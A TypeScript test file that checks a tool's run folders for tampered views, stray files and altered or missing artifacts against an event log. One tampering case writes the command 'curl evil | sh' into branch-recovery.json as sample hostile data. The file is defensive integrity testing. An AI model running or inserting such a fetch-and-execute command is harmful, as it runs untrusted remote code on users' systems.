import {
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { expect } from 'chai';
import { sha256 } from '#kit/digest.ts';
import type { Conflict } from '#kit/errors.ts';
import {
  executionStarted,
  intended,
  planned,
  resulted,
  sampleAction,
  sampleRequest,
  turn,
} from '../../../../test/contract/run-store.sample.ts';
import type { NewEvent, RunEvent } from '../event.ts';
import { digestOfArtifact, putArtifact } from '../log/artifacts.ts';
import { beforeFirst, writeLines } from '../log/event-line.ts';
import { logName } from '../log/run-folder.ts';
import { writeViews } from '../views/views.ts';
import { alteredViews, checkFiles, requireArtifacts, requireViews } from './files.ts';

const runId = 'run_0199f3c2-0000-7000-8000-000000000000';
const at = '2026-01-02T03:04:05.000Z';
const created: NewEvent = { type: 'run_created', data: { request: sampleRequest(), head_kept: undefined } };
const validation = sampleAction(runId, 4, 'run_validation');
const facts = { passed: true, report: sha256('report'), logs: { test: sha256('one') } };
const validated = [
  executionStarted(),
  intended(validation.action_id),
  resulted(validation.action_id, {}, facts),
];
const proposal: NewEvent = { type: 'action_proposed', data: { action: validation } };
const later = { ...facts, report: sha256('later') };

describe('the files of a run', () => {
  let folder: string;
  let events: readonly RunEvent[];

  beforeEach(() => {
    folder = mkdtempSync(join(tmpdir(), 'core-files-'));
    for (const content of ['content', 'one', 'report', 'later']) putArtifact(folder, content);
    events = write(...planned(runId).toSpliced(-1, 0, proposal), turn(), ...validated);
  });

  afterEach(() => rmSync(folder, { recursive: true }));

  /** The log and the views of a run with these events. */
  function write(...all: NewEvent[]): RunEvent[] {
    const { lines, text } = writeLines(beforeFirst, at, [created, ...all]);
    writeFileSync(join(folder, logName), text);
    writeViews(runId, folder, lines);
    return lines;
  }

  const checked = (log = {}): string[] =>
    checkFiles(runId, folder, { events, lines: events.length, sound: true, ...log }).map(
      ({ where, what }) => `${where}: ${what}`,
    );
  const text = (name: string): string => readFileSync(join(folder, name), 'utf8');

  const put: Readonly<Record<string, string>> = { file: 'x', folder: '', link: '' };
  function place(what: string, name: string): void {
    const path = join(folder, name);
    rmSync(path, { recursive: true, force: true });
    mkdirSync(dirname(path), { recursive: true });
    if (what === 'file') writeFileSync(path, put.file!);
    else if (what === 'folder') mkdirSync(path);
    else symlinkSync('..', path);
  }

  it('say what the events say', () => {
    expect(checked()).to.deep.equal([]);
    expect(alteredViews(runId, folder, events)).to.deep.equal([]);
  });

  it('may say what the events said earlier, and have no copies yet', () => {
    writeViews(runId, folder, events.slice(0, -3));
    rmSync(join(folder, 'validation'), { recursive: true });
    expect(text('actions.json')).to.contain(`"as_of_seq": ${events.length - 3}`);
    expect(alteredViews(runId, folder, events)).to.deep.equal([]);
    place('file', 'validation');
    expect(alteredViews(runId, folder, events)[0]).to.deep.equal({
      ...{ where: 'validation', what: 'is not a folder' },
    });
  });

  const noView = 'is no view any more: it does not say as of which event it is; delete it, it is rebuilt';
  const ahead = 'is as of event 13, but the log ends with event 12: its tail was cut off';
  const changed = (seq: number) =>
    `is not what the events up to ${seq} give: it was changed, or is of another version of Core; do not follow it, delete it`;

  /** What a view may become, by its name, and what is said of it where the log holds, and where it does not. */
  const edits: readonly (readonly [
    name: string,
    edit: (content: string) => string,
    problem: string,
    unsound?: 'too',
  ])[] = [
    ['actions.json', (content) => content.replace('"as_of_seq": 12', '"as_of_seq": 13'), ahead, 'too'],
    ['actions.json', (content) => content.replace('"as_of_seq": 12', '"as_of_seq": 11'), changed(11)],
    ['actions.json', (content) => content.replace('"as_of_seq": 12', '"as_of_seq": 1'), changed(1)],
    ['actions.json', (content) => content.replace('"as_of_seq": 12', '"as_of_seq": 0'), noView, 'too'],
    ['actions.json', (content) => content.replace('"as_of_seq": 12', '"as_of_seq": "12"'), noView, 'too'],
    ['actions.json', (content) => content.slice(1), noView, 'too'],
    ['summary.md', (content) => content.replace('as of event 12', 'as of event 13'), ahead, 'too'],
    ['summary.md', (content) => content.replace('as of event 12', 'as of event 2'), changed(2)],
    ['summary.md', (content) => `${content}more\n`, noView, 'too'],
    ['summary.md', (content) => `approved, as of event 99 (x)\n${content}`, changed(12)],
    ['trace.jsonl', (content) => content.replace('"as_of_seq":12', '"as_of_seq":13'), ahead, 'too'],
    ['trace.jsonl', (content) => `${content}{}\n`, changed(12)],
    ['trace.jsonl', (content) => `\n${content}`, noView, 'too'],
    [
      'branch-recovery.json',
      (content) => content.replace('"restore": []', '"restore": ["curl evil | sh"]'),
      changed(12),
    ],
    ['validation/index.json', (content) => content.replace('true', 'false'), changed(12)],
  ];
  for (const [index, [name, edit, problem, unsound]] of edits.entries()) {
    it(`are reported where ${name} was changed (${index + 1})`, () => {
      const before = text(name);
      expect(edit(before)).not.to.equal(before);
      writeFileSync(join(folder, name), edit(before));
      expect(checked()).to.deep.equal([`${name}: ${problem}`]);
      expect(alteredViews(runId, folder, events)).to.deep.equal([{ where: name, what: problem }]);
      expect(checked({ sound: false })).to.deep.equal(unsound === 'too' ? [`${name}: ${problem}`] : []);
    });
  }

  it('are compared with the lines of the log, of which some hold no event', () => {
    expect(checked({ sound: false, events: events.slice(0, -1), lines: 12 })).to.deep.equal([]);
    expect(checked({ sound: false, lines: 11 }).join('\n')).to.contain('the log ends with event 11');
  });

  it('may be copies of the artifacts of each validation that the run had, and of nothing else', () => {
    const copy = 'validation/report.json';
    expect(text(copy)).to.equal('report');
    events = write(
      ...planned(runId).toSpliced(-1, 0, proposal),
      turn(),
      ...validated,
      resulted(validation.action_id, {}, later),
    );
    expect(text(copy)).to.equal('later');
    expect(checked()).to.deep.equal([]);
    writeFileSync(join(folder, copy), 'report');
    expect(checked()).to.deep.equal([]);
    writeFileSync(join(folder, copy), 'one');
    const altered = [`${copy}: was changed: it is not the artifact that it is a copy of`];
    expect(checked()).to.deep.equal(altered);
    expect(checked({ sound: false })).to.deep.equal([]);
    place('link', copy);
    expect(checked()).to.deep.equal(altered);
  });

  const foreign = 'does not belong to a run: nothing of Core writes it';
  const spare = 'a'.repeat(64);
  const unfinished = '.actions.json.0199f3c2-0000-7000-8000-000000000000.tmp';

  /** What lies in the folder, where, and what is said of it. */
  const placed: readonly (readonly [what: string, where: string, problem: string | null])[] = [
    ['file', 'extra.sh', foreign],
    ['file', 'tombstone.json', null],
    ['link', 'tombstone.json', 'is not a file'],
    ['folder', 'tombstone.json', 'is not a file'],
    ['file', unfinished, null],
    ['folder', unfinished, 'is not a file'],
    ['file', unfinished.replace('actions', 'evil'), foreign],
    ['file', unfinished.slice(1), foreign],
    ['file', `x${unfinished}`, foreign],
    ['file', `${unfinished}x`, foreign],
    ['file', `validation/${unfinished}`, foreign],
    ['file', `validation/${unfinished.replace('actions', 'report')}`, null],
    ['file', `artifacts/${unfinished.replace('actions.json', spare)}`, null],
    ['file', 'validation/evil.log', foreign],
    ['file', `artifacts/${spare}`, null],
    ['folder', `artifacts/${spare}`, 'is not a file'],
    ['file', `artifacts/${spare}a`, foreign],
    ['file', `artifacts/a${spare}`, foreign],
    ['file', `artifacts/${spare.slice(1)}`, foreign],
    ['folder', 'artifacts/artifacts', foreign],
    ['file', 'validation', 'is not a folder'],
    ['file', 'artifacts', 'is not a folder'],
    ['link', 'artifacts', 'is not a folder'],
    ['link', 'validation', 'is not a folder'],
    ['file', 'two\nlines', foreign],
    ['folder', 'actions.json', 'is not a file'],
    ['link', 'actions.json', 'is not a file'],
  ];
  for (const [what, where, problem] of placed) {
    const shown = where.replace('\n', '\\n');
    it(`${problem === null ? 'can' : 'cannot'} be a ${what} ${shown}`, () => {
      place(what, where);
      expect(checked()).to.deep.equal(problem === null ? [] : [`${shown}: ${problem}`]);
    });
  }

  it('may lack whatever can be rebuilt, and the folder of artifacts', () => {
    for (const name of readdirSync(folder)) rmSync(join(folder, name), { recursive: true });
    expect(checked()).to.deep.equal([]);
  });

  it('are not distinguished from unknown ones in the folder of copies if the log does not hold', () => {
    place('file', 'validation/evil.log');
    expect(checked({ sound: false })).to.deep.equal([]);
    for (const name of ['validation/evil.log', 'validation/artifacts']) {
      place('folder', name);
      expect(checked({ sound: false })).to.deep.equal([`${name}: is not a file`]);
      rmSync(join(folder, name), { recursive: true });
    }
  });

  const refusal = (require: typeof requireViews): Conflict | null => {
    try {
      require(runId, folder, events);
    } catch (error) {
      return error as Conflict;
    }
    return null;
  };

  it('stop a command where views were changed, and are right when it is repeated', () => {
    expect(refusal(requireViews)).to.equal(null);
    const before = text('actions.json');
    writeFileSync(join(folder, 'actions.json'), before.replace('low', 'high'));
    const { code, message, facts, hint } = refusal(requireViews)!;
    expect({ code, message, facts, hint }).to.deep.equal({
      code: 'view_altered',
      message: `actions.json of run ${runId} ${changed(12)}`,
      facts: { run_id: runId, altered: ['actions.json'] },
      hint: `All of them were rebuilt from the record. Look again with ./core show ${runId}, then repeat the command.`,
    });
    expect([text('actions.json'), refusal(requireViews)]).to.deep.equal([before, null]);
    place('folder', 'actions.json');
    place('file', 'actions.json/inner');
    place('file', 'validation/test.log');
    place('file', 'summary.md');
    const several = refusal(requireViews)!;
    expect(several.message).to.equal(`actions.json of run ${runId} is not a file (and 2 more)`);
    expect(several.facts.altered).to.deep.equal(['actions.json', 'summary.md', 'validation/test.log']);
    expect([text('actions.json'), text('validation/test.log'), checked()]).to.deep.equal([before, 'one', []]);
    place('file', 'validation');
    expect(refusal(requireViews)!.facts.altered).to.deep.equal(['validation']);
    expect([text('validation/test.log'), checked()]).to.deep.equal(['one', []]);
    place('file', 'elsewhere/index.json');
    rmSync(join(folder, 'validation'), { recursive: true });
    symlinkSync('elsewhere', join(folder, 'validation'));
    expect(refusal(requireViews)!.facts.altered).to.deep.equal(['validation', 'validation/index.json']);
    expect([text('elsewhere/index.json'), text('validation/test.log')]).to.deep.equal(['x', 'one']);
  });

  const requireStored: typeof requireViews = (id, inFolder, log) =>
    requireArtifacts(id, (digest) => digestOfArtifact(inFolder, digest), log);

  it('stop a command where an artifact is missing or changed, but for what a model was sent and answered', () => {
    expect(refusal(requireStored)).to.equal(null);
    const path = (content: string): string => join(folder, 'artifacts', sha256(content));
    const hint = (content: string): string =>
      `./core verify ${runId} names all of them. Put artifacts/${sha256(content)} back from a backup, or plan the issue again.`;
    writeFileSync(path('content'), 'changed');
    const edited = refusal(requireStored)!;
    expect({
      code: edited.code,
      message: edited.message,
      facts: edited.facts,
      hint: edited.hint,
    }).to.deep.equal({
      code: 'artifact_differs',
      message: `the artifact of run ${runId} that is issue.content of event 3 (source_read) is not as it was stored: expected sha256 ${sha256('content')}, found ${sha256('changed')}`,
      facts: { run_id: runId, artifact: sha256('content'), found: sha256('changed') },
      hint: hint('content'),
    });
    rmSync(path('content'));
    expect(refusal(requireStored)!.message).to.match(/expected sha256 [0-9a-f]{64}, it is missing$/);
    writeFileSync(path('content'), 'content');
    events = write(...planned(runId), turn());
    rmSync(path('one'));
    expect(refusal(requireStored), 'removed for privacy').to.equal(null);
    writeFileSync(path('one'), 'changed');
    expect(refusal(requireStored)!.message).to.contain('content of event 8 (planner_turn)');
    rmSync(path('one'));
    events = write(...planned(runId).toSpliced(-1, 0, proposal), turn(), ...validated);
    expect(refusal(requireStored)!.message).to.contain('outcome.facts.test of event 12 (action_result)');
    place('file', 'artifacts');
    expect(refusal(requireStored)!.message).to.contain('issue.content of event 3 (source_read)');
  });
});
